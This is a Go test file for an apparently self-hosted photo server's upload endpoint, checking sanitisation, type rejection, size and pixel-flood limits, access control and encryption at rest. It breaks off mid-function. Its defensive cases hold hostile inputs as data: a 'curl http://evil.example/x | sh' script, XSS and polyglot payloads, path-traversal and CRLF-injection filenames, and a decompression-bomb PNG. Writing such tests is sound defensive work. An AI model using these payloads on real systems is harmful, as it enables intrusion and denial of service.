package server

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/sha256"
	"database/sql"
	"encoding/binary"
	"encoding/hex"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"io"
	"io/fs"
	"math"
	"mime"
	"mime/multipart"
	"net/http"
	"net/textproto"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/photovault/photovault/store"
	"github.com/photovault/photovault/store/blob"
	"github.com/photovault/photovault/store/imaging"
	"github.com/photovault/photovault/store/keys"
)

// mtFile is one part of a multipart upload. disposition, when set, replaces
// the generated Content-Disposition (for hostile names).
type mtFile struct {
	field, name, disposition string
	data                     []byte
}

// mtMultipart builds a multipart/form-data body.
func mtMultipart(t testing.TB, files ...mtFile) ([]byte, string) {
	t.Helper()
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	for _, f := range files {
		field := f.field
		if field == "" {
			field = "file"
		}
		cd := f.disposition
		if cd == "" {
			cd = mime.FormatMediaType("form-data", map[string]string{"name": field, "filename": f.name})
		}
		h := textproto.MIMEHeader{}
		h.Set("Content-Disposition", cd)
		h.Set("Content-Type", "image/jpeg") // a lie for most tests: the server must not care
		pw, err := mw.CreatePart(h)
		if err != nil {
			t.Fatal(err)
		}
		pw.Write(f.data)
	}
	if err := mw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes(), mw.FormDataContentType()
}

// upload posts files to an album as o.
func (e *testEnv) mtUpload(o owner, albumID string, files ...mtFile) (*http.Response, []byte) {
	e.t.Helper()
	body, ct := mtMultipart(e.t, files...)
	hdr := o.bearer()
	hdr["Content-Type"] = ct
	return e.do("POST", "/api/albums/"+albumID+"/media", body, hdr)
}

// mtNoise is a w×h image of pseudo-random pixels (compresses badly, so the
// JPEG spans several 64 KiB blob chunks).
func mtNoise(w, h int, seed uint32) *image.RGBA {
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	x := seed*0x9E3779B9 | 1
	for i := range img.Pix {
		x ^= x << 13
		x ^= x >> 17
		x ^= x << 5
		img.Pix[i] = byte(x)
	}
	for i := 3; i < len(img.Pix); i += 4 {
		img.Pix[i] = 255
	}
	return img
}

// mtJPEG encodes a noise JPEG with a COM segment holding comment (when not
// empty) right after SOI.
func mtJPEG(t testing.TB, w, h int, seed uint32, comment string) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := jpeg.Encode(&buf, mtNoise(w, h, seed), &jpeg.Options{Quality: 90}); err != nil {
		t.Fatal(err)
	}
	b := buf.Bytes()
	if comment == "" {
		return b
	}
	seg := []byte{0xFF, 0xFE, 0, 0}
	binary.BigEndian.PutUint16(seg[2:], uint16(len(comment)+2))
	seg = append(seg, comment...)
	out := append([]byte{}, b[:2]...)
	out = append(out, seg...)
	return append(out, b[2:]...)
}

func mtPNG(t testing.TB, w, h int) []byte {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	for i := range img.Pix {
		img.Pix[i] = byte(i * 7)
	}
	img.Set(0, 0, color.RGBA{1, 2, 3, 255})
	var buf bytes.Buffer
	if err := png.Encode(&buf, img); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// mtExiftool tags a JPEG with exiftool, or skips when it is not installed.
func mtExiftool(t testing.TB, data []byte, args ...string) []byte {
	t.Helper()
	et, err := exec.LookPath("exiftool")
	if err != nil {
		t.Skip("exiftool not installed")
	}
	p := filepath.Join(t.TempDir(), "x.jpg")
	if err := os.WriteFile(p, data, 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command(et, append(append([]string{"-q", "-overwrite_original"}, args...), p)...).CombinedOutput()
	if err != nil {
		t.Fatalf("exiftool: %v %s", err, out)
	}
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func mtSHA(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

// mtAlbum creates an album over HTTP.
func (e *testEnv) mtAlbum(o owner, title string) string {
	e.t.Helper()
	resp, body := e.do("POST", "/api/albums", map[string]string{"title": title}, o.bearer())
	if resp.StatusCode != 201 {
		e.t.Fatalf("create album: %d %s", resp.StatusCode, body)
	}
	return decode[albumView](e.t, body).ID
}

// mtFiles lists every regular file under dir (relative paths).
func mtFiles(t testing.TB, dir string) []string {
	t.Helper()
	var out []string
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.Type().IsRegular() {
			rel, _ := filepath.Rel(dir, p)
			out = append(out, rel)
		}
		return nil
	})
	if err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	return out
}

// mtNothingKept asserts that no blob file, temp file, media row or blob row
// exists beyond what was there before (blobsBefore).
func (e *testEnv) mtNothingKept(blobsBefore []string, mediaBefore int) {
	e.t.Helper()
	if got := mtFiles(e.t, e.cfg.BlobRoot()); len(got) != len(blobsBefore) {
		e.t.Fatalf("blob files: before %v, after %v", blobsBefore, got)
	}
	if got := mtFiles(e.t, e.cfg.TmpDir()); len(got) != 0 {
		e.t.Fatalf("temp files left: %v", got)
	}
	if n := e.mtCount(`SELECT count(*) FROM media`); n != mediaBefore {
		e.t.Fatalf("media rows: before %d, after %d", mediaBefore, n)
	}
	if n := e.mtCount(`SELECT count(*) FROM blobs`); n != len(blobsBefore) {
		e.t.Fatalf("blob rows %d, blob files before %d", n, len(blobsBefore))
	}
}

// mtCount runs a count query on the database file directly.
func (e *testEnv) mtCount(q string, args ...any) int {
	e.t.Helper()
	var n int
	if err := e.mtRaw().QueryRowContext(context.Background(), q, args...).Scan(&n); err != nil {
		e.t.Fatalf("%s: %v", q, err)
	}
	return n
}

type mtItems struct {
	Items []mediaView `json:"items"`
}

func TestUploadTwoFilesInOneRequest(t *testing.T) {
	e := newTestEnv(t, nil)
	o := e.createOwner("alice")
	album := e.mtAlbum(o, "Shoot")
	j := mtJPEG(t, 320, 200, 1, "")
	p := mtPNG(t, 40, 30)
	resp, body := e.mtUpload(o, album, mtFile{name: "a.jpg", data: j}, mtFile{name: "b.png", data: p})
	if resp.StatusCode != 201 {
		t.Fatalf("upload: %d %s", resp.StatusCode, body)
	}
	items := decode[mtItems](t, body).Items
	if len(items) != 2 {
		t.Fatalf("items %s", body)
	}
	a, b := items[0], items[1]
	if a.Filename != "a.jpg" || a.ContentType != "image/jpeg" || a.Size != int64(len(j)) || a.SHA256 != mtSHA(j) ||
		a.Width != 320 || a.Height != 200 || a.Status != "processing" || a.AlbumID != album || a.Duplicate || !store.ValidID(a.ID) {
		t.Fatalf("jpeg item %+v", a)
	}
	if b.ContentType != "image/png" || b.Width != 40 || b.Height != 30 || b.SHA256 != mtSHA(p) {
		t.Fatalf("png item %+v", b)
	}
	if _, err := time.Parse(time.RFC3339, a.CreatedAt); err != nil || !strings.HasSuffix(a.CreatedAt, "Z") {
		t.Fatalf("created_at %q", a.CreatedAt)
	}
	if strings.Contains(string(body), `"duplicate"`) {
		t.Fatalf("duplicate shown when false: %s", body)
	}
	// Stored as the store sees it: CRC-32 of the exact bytes, a derive job each.
	m, err := e.store.Media(context.Background(), o.id, a.ID)
	if err != nil || m.CRC32 != crc32.ChecksumIEEE(j) {
		t.Fatalf("stored %+v %v", m, err)
	}
	if n := e.mtCount(`SELECT count(*) FROM jobs WHERE kind = 'derive' AND state = 'queued'`); n != 2 {
		t.Fatalf("derive jobs: %d", n)
	}
	// The original comes back byte for byte.
	resp, got := e.do("GET", "/api/media/"+a.ID+"/original", nil, o.bearer())
	if resp.StatusCode != 200 || !bytes.Equal(got, j) {
		t.Fatalf("original: %d, %d bytes", resp.StatusCode, len(got))
	}
	// The album lists both.
	resp, body = e.do("GET", "/api/albums/"+album, nil, o.bearer())
	det := decode[albumDetailView](t, body)
	if resp.StatusCode != 200 || len(det.Media) != 2 || det.MediaCount != 2 || det.CoverMediaID == nil {
		t.Fatalf("album: %d %s", resp.StatusCode, body)
	}
}

func TestUploadDuplicate(t *testing.T) {
	e := newTestEnv(t, nil)
	o := e.createOwner("alice")
	album := e.mtAlbum(o, "Shoot")
	j := mtJPEG(t, 64, 64, 2, "")
	_, body := e.mtUpload(o, album, mtFile{name: "first.jpg", data: j})
	first := decode[mtItems](t, body).Items[0]
	blobs := mtFiles(t, e.cfg.BlobRoot())
	resp, body := e.mtUpload(o, album, mtFile{name: "second.jpg", data: j})
	if resp.StatusCode != 201 {
		t.Fatalf("dup upload: %d %s", resp.StatusCode, body)
	}
	dup := decode[mtItems](t, body).Items[0]
	if !dup.Duplicate || dup.ID != first.ID || dup.Filename != "first.jpg" || !strings.Contains(string(body), `"duplicate":true`) {
		t.Fatalf("dup %s", body)
	}
	e.mtNothingKept(blobs, 1)
	// Same content in one request twice: one item, then the duplicate.
	other := e.mtAlbum(o, "Other")
	_, body = e.mtUpload(o, other, mtFile{name: "x.jpg", data: j}, mtFile{name: "y.jpg", data: j})
	items := decode[mtItems](t, body).Items
	if len(items) != 2 || items[0].Duplicate || !items[1].Duplicate || items[0].ID != items[1].ID || items[0].ID == first.ID {
		t.Fatalf("same request dup: %s", body)
	}
}

func TestUploadTooLargeKeepsNothing(t *testing.T) {
	const limit = 100_000
	e := newTestEnv(t, map[string]string{"PHOTOVAULT_MAX_UPLOAD_BYTES": strconv.Itoa(limit)})
	o := e.createOwner("alice")
	album := e.mtAlbum(o, "Big")
	j := mtJPEG(t, 64, 64, 3, "")
	// Exactly at the limit (trailing bytes after EOI are legal) is accepted.
	exact := append(append([]byte{}, j...), make([]byte, limit-len(j))...)
	resp, body := e.mtUpload(o, album, mtFile{name: "exact.jpg", data: exact})
	if resp.StatusCode != 201 {
		t.Fatalf("at the limit: %d %s", resp.StatusCode, body)
	}
	blobs := mtFiles(t, e.cfg.BlobRoot())
	for _, size := range []int{limit + 1, 3 * limit, 2 << 20} {
		big := append(append([]byte{}, j...), make([]byte, size-len(j))...)
		resp, body = e.mtUpload(o, album, mtFile{name: "big.jpg", data: big})
		if resp.StatusCode != 413 || !strings.Contains(string(body), `"too_large"`) {
			t.Fatalf("%d bytes: %d %s", size, resp.StatusCode, body)
		}
		e.mtNothingKept(blobs, 1)
	}
	// The whole-body backstop (64 × the per-file cap) stops endless
	// non-file parts too.
	filler := make([]byte, limit/2)
	parts := []mtFile{}
	for range 140 {
		parts = append(parts, mtFile{field: "note", name: "n", data: filler})
	}
	resp, body = e.mtUpload(o, album, parts...)
	if resp.StatusCode != 413 {
		t.Fatalf("body backstop: %d %s", resp.StatusCode, body)
	}
	e.mtNothingKept(blobs, 1)
}

func TestUploadRejectsNonMedia(t *testing.T) {
	e := newTestEnv(t, nil)
	o := e.createOwner("alice")
	album := e.mtAlbum(o, "Types")
	gifPolyglot := append([]byte("GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,"+
		"\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"), []byte("<script>alert(document.domain)</script>")...)
	zip := append([]byte("PK\x03\x04\x14\x00\x00\x00\x08\x00"), bytes.Repeat([]byte{0x42}, 600)...)
	elf := append([]byte("\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x3e\x00"), make([]byte, 600)...)
	cases := map[string][]byte{
		"html":          []byte("<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
		"svg":           []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>`),
		"gif polyglot":  gifPolyglot,
		"zip":           zip,
		"elf":           elf,
		"shell script":  []byte("#!/bin/sh\ncurl http://evil.example/x | sh\n"),
		"empty":         {},
		"pdf":           []byte("%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"),
		"jpeg then svg": append([]byte{0xFF, 0xD8, 0xFF, 0xE0, 0, 16, 'J', 'F', 'I', 'F', 0}, []byte("<svg onload=alert(1)>")...),
	}
	blobs := mtFiles(t, e.cfg.BlobRoot())
	for name, data := range cases {
		resp, body := e.mtUpload(o, album, mtFile{name: "photo.jpg", data: data})
		if resp.StatusCode != 415 || !strings.Contains(string(body), "unsupported_media_type") {
			t.Errorf("%s: %d %s", name, resp.StatusCode, body)
		}
	}
	e.mtNothingKept(blobs, 0)
	// A body that is not multipart at all.
	hdr := o.bearer()
	hdr["Content-Type"] = "image/jpeg"
	resp, body := e.do("POST", "/api/albums/"+album+"/media", mtJPEG(t, 8, 8, 1, ""), hdr)
	if resp.StatusCode != 415 {
		t.Fatalf("raw body: %d %s", resp.StatusCode, body)
	}
	resp, _ = e.do("POST", "/api/albums/"+album+"/media", map[string]string{"file": "x"}, o.bearer())
	if resp.StatusCode != 415 {
		t.Fatalf("json body: %d", resp.StatusCode)
	}
	// Multipart without a file part, and multipart without a boundary.
	resp, body = e.mtUpload(o, album, mtFile{field: "title", name: "x", data: []byte("hello")})
	if resp.StatusCode != 400 {
		t.Fatalf("no file part: %d %s", resp.StatusCode, body)
	}
	hdr["Content-Type"] = "multipart/form-data"
	resp, _ = e.do("POST", "/api/albums/"+album+"/media", "--x--", hdr)
	if resp.StatusCode != 400 {
		t.Fatalf("no boundary: %d", resp.StatusCode)
	}
	e.mtNothingKept(blobs, 0)
}

// mtPNGHeader is a PNG signature and IHDR declaring w×h, then an empty
// IDAT: tiny on disk, gigabytes once decoded.
func mtPNGHeader(w, h uint32) []byte {
	chunk := func(typ string, data []byte) []byte {
		b := make([]byte, 4, 12+len(data))
		binary.BigEndian.PutUint32(b, uint32(len(data)))
		b = append(b, typ...)
		b = append(b, data...)
		return binary.BigEndian.AppendUint32(b, crc32.ChecksumIEEE(append([]byte(typ), data...)))
	}
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr[0:], w)
	binary.BigEndian.PutUint32(ihdr[4:], h)
	ihdr[8], ihdr[9] = 8, 6 // 8-bit RGBA
	out := []byte("\x89PNG\r\n\x1a\n")
	out = append(out, chunk("IHDR", ihdr)...)
	out = append(out, chunk("IDAT", []byte{0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01})...)
	return append(out, chunk("IEND", nil)...)
}

func TestUploadPixelFlood(t *testing.T) {
	e := newTestEnv(t, nil)
	o := e.createOwner("alice")
	album := e.mtAlbum(o, "Flood")
	var before runtime.MemStats
	runtime.ReadMemStats(&before)
	resp, body := e.mtUpload(o, album, mtFile{name: "flood.png", data: mtPNGHeader(30000, 30000)})
	if resp.StatusCode != 422 || !strings.Contains(string(body), "pixel_flood") {
		t.Fatalf("flood: %d %s", resp.StatusCode, body)
	}
	var after runtime.MemStats
	runtime.ReadMemStats(&after)
	// A decode would have allocated 3.6 GB; the header check allocates
	// little more than the 1 MiB peek and copy buffers.
	if grew := after.TotalAlloc - before.TotalAlloc; grew > 64<<20 {
		t.Fatalf("allocated %d bytes: the image was decoded", grew)
	}
	e.mtNothingKept(nil, 0)
	// A corrupt header of a small, complete file is refused too.
	bad := mtPNGHeader(10, 10)
	bad[20] ^= 0xFF // breaks the IHDR CRC
	resp, body = e.mtUpload(o, album, mtFile{name: "bad.png", data: bad})
	if resp.StatusCode != 422 {
		t.Fatalf("corrupt header: %d %s", resp.StatusCode, body)
	}
	e.mtNothingKept(nil, 0)
}

func TestUploadIntoOtherOwnersAlbum(t *testing.T) {
	e := newTestEnv(t, nil)
	alice := e.createOwner("alice")
	mallory := e.createOwner("mallory")
	album := e.mtAlbum(alice, "Private")
	resp, body := e.mtUpload(mallory, album, mtFile{name: "x.jpg", data: mtJPEG(t, 16, 16, 9, "")})
	if resp.StatusCode != 404 {
		t.Fatalf("upload into alice's album: %d %s", resp.StatusCode, body)
	}
	resp, _ = e.mtUpload(mallory, store.NewID(), mtFile{name: "x.jpg", data: mtJPEG(t, 16, 16, 9, "")})
	if resp.StatusCode != 404 {
		t.Fatalf("unknown album: %d", resp.StatusCode)
	}
	e.mtNothingKept(nil, 0)
	// The attempt on a real id is audited for the victim.
	if n := e.mtCount(`SELECT count(*) FROM audit_logs WHERE event_type = 'idor_denied' AND owner_id = ? AND actor = ?`, alice.id, mallory.id); n != 1 {
		t.Fatalf("idor audit events: %d", n)
	}
}

func TestUploadHostileFilenames(t *testing.T) {
	e := newTestEnv(t, nil)
	o := e.createOwner("alice")
	album := e.mtAlbum(o, "Names")
	cases := []struct {
		name, disposition, want string
	}{
		{"traversal", `form-data; name="file"; filename="../../etc/passwd"`, "passwd"},
		{"windows traversal", `form-data; name="file"; filename*=UTF-8''..%5C..%5Cwindows%5Cwin.ini`, "win.ini"},
		{"nul", `form-data; name="file"; filename*=UTF-8''evil%00name.jpg`, "evilname.jpg"},
		{"crlf injection", `form-data; name="file"; filename*=UTF-8''a%0D%0ASet-Cookie%3A%20x%3Dy.jpg`, "aSet-Cookie: x=y.jpg"},
		{"rtl override", `form-data; name="file"; filename*=UTF-8''invoice%E2%80%AEgpj.exe`, "invoicegpj.exe"},
		{"html", `form-data; name="file"; filename="<img src=x onerror=alert(1)>.jpg"`, "<img src=x onerror=alert(1)>.jpg"},
		{"unicode kept", `form-data; name="file"; filename*=UTF-8''%C3%89t%C3%A9%20%E6%9D%B1%E4%BA%AC%20%F0%9F%93%B7.jpg`, "Été 東京 📷.jpg"},
		{"dot dot", `form-data; name="file"; filename=".."`, "untitled.jpg"},
	}
	for i, c := range cases {
		data := mtJPEG(t, 8, 8, uint32(100+i), "")
		resp, body := e.mtUpload(o, album, mtFile{disposition: c.disposition, data: data})
		if resp.StatusCode != 201 {
			t.Fatalf("%s: %d %s", c.name, resp.StatusCode, body)
		}
		if strings.Contains(string(body), "<img") {
			t.Fatalf("%s: unescaped markup in JSON: %s", c.name, body)
		}
		m := decode[mtItems](t, body).Items[0]
		if m.Filename != c.want {
			t.Errorf("%s: stored %q, want %q", c.name, m.Filename, c.want)
		}
		resp, got := e.do("GET", "/api/media/"+m.ID+"/original", nil, o.bearer())
		if resp.StatusCode != 200 || !bytes.Equal(got, data) {
			t.Fatalf("%s: original %d", c.name, resp.StatusCode)
		}
		cd := resp.Header.Get("Content-Disposition")
		if strings.ContainsAny(cd, "\x00\r\n\u202e") || !strings.HasPrefix(cd, "attachment; filename=") || !strings.Contains(cd, "filename*=UTF-8''") {
			t.Errorf("%s: unsafe Content-Disposition %q", c.name, cd)
		}
		for _, r := range cd {
			if r < 0x20 || r > 0x7e {
				t.Errorf("%s: non-ASCII byte in header %q", c.name, cd)
				break
			}
		}
		disp, params, err := mime.ParseMediaType(cd)
		if err != nil || disp != "attachment" || params["filename"] != c.want {
			t.Errorf("%s: Content-Disposition %q parses to %q %v %v", c.name, cd, params["filename"], disp, err)
		}
	}
	// No file anywhere got a name from the client.
	for _, f := range mtFiles(t, e.cfg.DataDir) {
		if strings.Contains(f, "passwd") || strings.Contains(f, "evil") || strings.Contains(f, "win.ini") {
			t.Fatalf("client name used as a path: %s", f)
		}
	}
}

func TestDisplayName(t *testing.T) {
	long := strings.Repeat("é", 200) + ".jpg" // 404 bytes
	got := DisplayName(long, imaging.KindJPEG)
	if len(got) > 255 || !strings.HasPrefix(long, got) || !utf8Valid(got) {
		t.Fatalf("long name cut to %d bytes: %q", len(got), got)
	}
	for in, want := range map[string]string{
		"IMG_0001.JPG":         "IMG_0001.JPG",
		"C:\\Users\\x\\a.jpg":  "a.jpg",
		"/abs/path/b.png":      "b.png",
		"  spaced.jpg  ":       "spaced.jpg",
		"bad\xff\xfeutf8.jpg":  "bad\uFFFDutf8.jpg",
		"":                     "untitled.jpg",
		"dir/":                 "untitled.jpg",
		"tab\there.jpg":        "tabhere.jpg",
		"\u2066isolate\u2069":  "isolate",
		"zero\u200dwidth.jpg":  "zero\u200dwidth.jpg", // ZWJ is legitimate (emoji, scripts)
		"\ufeffbom.jpg":        "bom.jpg",
		"del\x7fete.jpg":       "delete.jpg",
		"line\u2028break.jpg":  "line\u2028break.jpg",
		"a\u0000b\u0001c.jpeg": "abc.jpeg",
	} {
		if got := DisplayName(in, imaging.KindJPEG); got != want {
			t.Errorf("DisplayName(%q) = %q, want %q", in, got, want)
		}
	}
	if got := DisplayName("", imaging.KindMOV); got != "untitled.mov" {
		t.Fatalf("empty mov: %q", got)
	}
}

func utf8Valid(s string) bool { return strings.ToValidUTF8(s, "\uFFFD") == s }

// TestNoPlaintextOnDisk reads every file under the data directory after
// uploads and looks for what a thief would: JPEG/PNG magic at a file start,
// a unique marker from a photo's comment segment, and the EXIF camera
// model. Camera and lens are sealed in the media table (metaseal.go), so
// the database files must not hold them either.
func TestNoPlaintextOnDisk(t *testing.T) {
	e := newTestEnv(t, nil)
	o := e.createOwner("alice")
	album := e.mtAlbum(o, "Secret")
	var rnd [8]byte
	rand.Read(rnd[:])
	marker := "PV-CANARY-" + hex.EncodeToString(rnd[:])
	const camera = "CanaryCam 9000"
	j := mtExiftool(t, mtJPEG(t, 400, 300, 5, marker), "-Make=CanaryMaker", "-Model="+camera)
	if !bytes.Contains(j, []byte(marker)) || !bytes.Contains(j, []byte(camera)) {
		t.Fatal("fixture lacks its canaries")
	}
	resp, body := e.mtUpload(o, album, mtFile{name: "secret.jpg", data: j}, mtFile{name: "p.png", data: mtPNG(t, 50, 50)})
	if resp.StatusCode != 201 {
		t.Fatalf("upload %d %s", resp.StatusCode, body)
	}
	items := decode[mtItems](t, body).Items
	if !strings.Contains(items[0].Camera, camera) {
		t.Fatalf("camera not read: %+v", items[0])
	}
	// A derivative as the worker would store it (encrypted thumbnail).
	e.mtDerivative(items[0].ID, "thumb", mtJPEG(t, 40, 30, 6, marker))
	// Checkpoint nothing on purpose: the WAL is scanned as it is.
	files := mtFiles(t, e.cfg.DataDir)
	if len(files) == 0 {
		t.Fatal("no files")
	}
	scanned := 0
	for _, dir := range []string{e.cfg.DataDir, filepath.Dir(e.store.Path())} {
		for _, rel := range mtFiles(t, dir) {
			b, err := os.ReadFile(filepath.Join(dir, rel))
			if err != nil {
				t.Fatal(err)
			}
			scanned++
			if bytes.HasPrefix(b, []byte{0xFF, 0xD8, 0xFF}) || bytes.HasPrefix(b, []byte("\x89PNG")) {
				t.Errorf("%s starts with image magic", rel)
			}
			if bytes.Contains(b, []byte(marker)) {
				t.Errorf("%s holds the comment marker in plaintext", rel)
			}
			if bytes.Contains(b, []byte("CanaryMaker")) {
				t.Errorf("%s holds the EXIF camera make in plaintext", rel)
			}
			if bytes.Contains(b, []byte(camera)) {
				t.Errorf("%s holds the EXIF camera model in plaintext", rel)
			}
		}
	}
	if scanned < 3 {
		t.Fatalf("scanned only %d files", scanned)
	}
	if n := e.mtCount(`SELECT count(*) FROM media WHERE camera LIKE 'pv1:%'`); n != 1 {
		t.Fatalf("sealed camera rows: %d", n)
	}
}

// mtDerivative stores an encrypted derivative the way the worker does.
func (e *testEnv) mtDerivative(mediaID, variant string, data []byte) store.Derivative {
	e.t.Helper()
	w, err := e.srv.blobs.Create(e.srv.kek())
	if err != nil {
		e.t.Fatal(err)
	}
	w.Write(data)
	ref, err := w.Commit()
	if err != nil {
		e.t.Fatal(err)
	}
	d := store.Derivative{MediaID: mediaID, Variant: variant, Size: int64(len(data)), CRC32: crc32.ChecksumIEEE(data), ContentType: "image/jpeg", Width: 40, Height: 30}
	if err := e.store.PutDerivative(context.Background(), d, ref); err != nil {
		e.t.Fatal(err)
	}
	d.BlobID = ref.ID
	return d
}

func TestUploadMetadataAndEncryptedGPS(t *testing.T) {
	e := newTestEnv(t, nil)
	o := e.createOwner("alice")
	album := e.mtAlbum(o, "Paris")
	j := mtExiftool(t, mtJPEG(t, 300, 200, 7, ""),
		"-Make=Canary", "-Model=CanaryCam 9000", "-LensModel=Canary 35mm F1.4",
		"-DateTimeOriginal=2024:07:14 15:16:17", "-OffsetTimeOriginal=+02:00", "-Orientation#=6",
		"-GPSLatitude=48.858370", "-GPSLatitudeRef=N", "-GPSLongitude=2.294481", "-GPSLongitudeRef=E")
	resp, body := e.mtUpload(o, album, mtFile{name: "tower.jpg", data: j})
	if resp.StatusCode != 201 {
		t.Fatalf("upload %d %s", resp.StatusCode, body)
	}
	m := decode[mtItems](t, body).Items[0]
	if m.TakenAt == nil || *m.TakenAt != "2024-07-14T13:16:17Z" {
		t.Errorf("taken_at %v", m.TakenAt)
	}
	if !strings.Contains(m.Camera, "CanaryCam 9000") || m.Lens != "Canary 35mm F1.4" {
		t.Errorf("camera %q lens %q", m.Camera, m.Lens)
	}
	if m.Width != 200 || m.Height != 300 { // orientation 6: displayed rotated
		t.Errorf("display size %dx%d", m.Width, m.Height)
	}
	for _, k := range []string{"lat", "lon", "gps", "location"} {
		if strings.Contains(strings.ToLower(string(body)), `"`+k) {
			t.Errorf("JSON exposes %s: %s", k, body)
		}
	}
	// The position is kept, encrypted and bound to this media item.
	rec, err := e.store.MediaLocation(context.Background(), o.id, m.ID)
	if err != nil || rec == nil {
		t.Fatalf("no location record: %v", err)
	}
	lat, lon, err := OpenLocation(e.srv.master, m.ID, rec)
	if err != nil || math.Abs(lat-48.85837) > 1e-5 || math.Abs(lon-2.294481) > 1e-5 {
		t.Fatalf("location %v %v %v", lat, lon, err)
	}
	if _, _, err := OpenLocation(e.srv.master, store.NewID(), rec); err == nil {
		t.Fatal("location record opens for another media id")
	}
	other := e.srv.master
	other[0] ^= 1
	if _, _, err := OpenLocation(other, m.ID, rec); err == nil {
		t.Fatal("location record opens under another key")
	}
	if LocationKeyID(rec) != e.srv.master.ID() {
		t.Fatal("record does not name its key")
	}
	// Nothing of the coordinates sits in the database files in plaintext:
	// no decimal strings, no float64 bytes in either byte order.
	var needles [][]byte
	for _, s := range []string{"48.8583", "2.29448", "48,8583", "2,29448"} {
		needles = append(needles, []byte(s))
	}
	for _, f := range []float64{lat, lon} {
		needles = append(needles, binary.BigEndian.AppendUint64(nil, math.Float64bits(f)), binary.LittleEndian.AppendUint64(nil, math.Float64bits(f)))
	}
	dbDir := filepath.Dir(e.store.Path())
	checked := 0
	for _, rel := range mtFiles(t, dbDir) {
		if !strings.HasPrefix(filepath.Base(rel), filepath.Base(e.store.Path())) {
			continue
		}
		b, err := os.ReadFile(filepath.Join(dbDir, rel))
		if err != nil {
			t.Fatal(err)
		}
		checked++
		for _, n := range needles {
			if bytes.Contains(b, n) {
				t.Errorf("%s holds GPS in plaintext (%q)", rel, n)
			}
		}
	}
	if checked == 0 {
		t.Fatal("database files not found")
	}
}

func TestUploadPartsCap(t *testing.T) {
	e := newTestEnv(t, nil)
	o := e.createOwner("alice")
	album := e.mtAlbum(o, "Parts")
	parts := make([]mtFile, maxUploadParts+1)
	for i := range parts {
		parts[i] = mtFile{field: "x", name: "x"}
	}
	resp, body := e.mtUpload(o, album, parts...)
	if resp.StatusCode != 400 || !strings.Contains(string(body), "parts") {
		t.Fatalf("too many parts: %d %s", resp.StatusCode, body)
	}
}

// mtRaw opens the database file read-only, as someone holding the disk would.
func (e *testEnv) mtRaw() *sql.DB {
	e.t.Helper()
	db, err := sql.Open("sqlite", "file:"+e.store.Path()+"?mode=ro")
	if err != nil {
		e.t.Fatal(err)
	}
	e.t.Cleanup(func() { _ = db.Close() })
	return db
}

// TestUploadStreamMemory streams one large file (a JPEG head, then zero
// padding) through a real HTTP multipart upload — hash, CRC-32, encrypt,
// fsync, row — and checks that the Go heap stays flat while it runs. The
// default is 48 MiB to keep the suite fast; for the figures in
// docs/PERFORMANCE.md run
//
//	PHOTOVAULT_UPLOAD_TEST_BYTES=1073741824 go test ./server -run UploadStreamMemory -v
func TestUploadStreamMemory(t *testing.T) {
	size := int64(48 << 20)
	if v := os.Getenv("PHOTOVAULT_UPLOAD_TEST_BYTES"); v != "" {
		n, err := strconv.ParseInt(v, 10, 64)
		if err != nil {
			t.Fatal(err)
		}
		size = n
	}
	e := newTestEnv(t, nil)
	o := e.createOwner("alice")
	album := e.mtAlbum(o, "Stream")
	head := mtJPEG(t, 64, 64, 11, "")

	pr, pw := io.Pipe()
	mw := multipart.NewWriter(pw)
	go func() {
		part, err := mw.CreateFormFile("file", "big.jpg")
		if err == nil {
			buf := make([]byte, 1<<20)
			_, err = io.CopyBuffer(part, &mtZeroTail{head: head, left: size}, buf)
		}
		if err == nil {
			err = mw.Close()
		}
		pw.CloseWithError(err)
	}()
	req, _ := http.NewRequest("POST", e.http.URL+"/api/albums/"+album+"/media", pr)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	req.Header.Set("Authorization", "Bearer "+o.access)

	runtime.GC()
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	base := ms.HeapInuse
	var peak atomic.Uint64
	stop := make(chan struct{})
	sampled := make(chan struct{})
	go func() {
		defer close(sampled)
		tick := time.NewTicker(5 * time.Millisecond)
		defer tick.Stop()
		for {
			select {
			case <-stop:
				return
			case <-tick.C:
				var m runtime.MemStats
				runtime.ReadMemStats(&m)
				if m.HeapInuse > peak.Load() {
					peak.Store(m.HeapInuse)
				}
			}
		}
	}()
	start := time.Now()
	resp, err := e.http.Client().Do(req)
	elapsed := time.Since(start)
	close(stop)
	<-sampled
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 201 {
		t.Fatalf("upload: %d %s", resp.StatusCode, body)
	}
	m := decode[mtItems](t, body).Items[0]
	if m.Size != size+0 {
		t.Fatalf("size %d, want %d", m.Size, size)
	}
	growth := int64(peak.Load()) - int64(base)
	t.Logf("%d MiB in %v: %.0f MB/s over HTTP (client and server in one process); heap growth peak %.1f MiB",
		size>>20, elapsed.Round(time.Millisecond), float64(size)/elapsed.Seconds()/1e6, float64(growth)/(1<<20))
	if growth > 32<<20 {
